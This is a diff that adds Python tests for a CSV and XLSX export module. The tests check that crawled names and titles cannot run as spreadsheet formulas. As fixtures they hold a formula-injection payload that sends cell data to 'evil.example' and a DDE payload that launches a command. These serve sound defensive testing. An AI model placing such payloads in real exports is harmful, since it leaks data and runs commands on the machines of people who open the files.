@@ -81,3 +81,64 @@ def test_csv_columns_are_documented():
         section = documented.split(f"### `{table}.csv`")[1].split("###")[0]
         listed = re.findall(r"^\| `([a-z_]+)` \|", section, flags=re.M)
         assert listed == list(columns), table
+
+
+def test_csv_cells_that_would_be_formulas_are_neutralised(graph, tmp_path):
+    """Issue 13, row 11: a crawled title must not run as a spreadsheet formula."""
+    from sqlalchemy import update
+
+    from maillage.store.schema import documents, entities
+
+    store, _ids = graph
+    hostile = {
+        "org-ensam": '=HYPERLINK("http://evil.example/?"&A1,"clic")',
+        "org-utbm": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "org-polymeca": "+33 1 23",
+        "place-besancon": "-2+3",
+        "per-laurent-champaney": "\tTab",
+    }
+    with store.engine.begin() as connection:
+        for entity, name in hostile.items():
+            connection.execute(update(entities).where(entities.c.id == entity).values(name=name))
+        connection.execute(update(documents).values(title="\r=1+1"))
+    write_csv(store, tmp_path / "out", delimiter=";")
+    tables = {
+        name: list(
+            csv.DictReader(
+                (tmp_path / "out" / f"{name}.csv").open(encoding="utf-8", newline=""), delimiter=";"
+            )
+        )
+        for name in TABLES
+    }
+    names = {row["id"]: row["name"] for row in tables["entities"]}
+    for entity, name in hostile.items():
+        assert names[entity] == "'" + name
+    assert all(row["title"] == "'\r=1+1" for row in tables["documents"])
+    assert all(not r["subject_name"].startswith(("=", "+", "-", "@")) for r in tables["facts"])
+    assert csv_export.neutralised(-3) == -3 and csv_export.neutralised("a=b") == "a=b"
+
+
+def test_xlsx_writes_text_as_text_never_as_formula(graph, tmp_path):
+    from sqlalchemy import update
+
+    from maillage.export.xlsx import write_xlsx
+    from maillage.store.schema import entities
+
+    store, _ids = graph
+    with store.engine.begin() as connection:
+        connection.execute(
+            update(entities).where(entities.c.id == "org-ensam").values(name='=HYPERLINK("x")')
+        )
+    counts, notes = write_xlsx(store, tmp_path / "graph.xlsx")
+    assert counts["facts"] == 6 and notes == []
+    with zipfile.ZipFile(tmp_path / "graph.xlsx") as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert len(sheets) == 4
+        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
+        strings = (
+            book.read("xl/sharedStrings.xml").decode("utf-8")
+            if "xl/sharedStrings.xml" in book.namelist()
+            else xml
+        )
+    assert "<f>" not in xml  # no formula cell anywhere
+    assert "=HYPERLINK(&quot;x&quot;)" in strings or '=HYPERLINK("x")' in strings
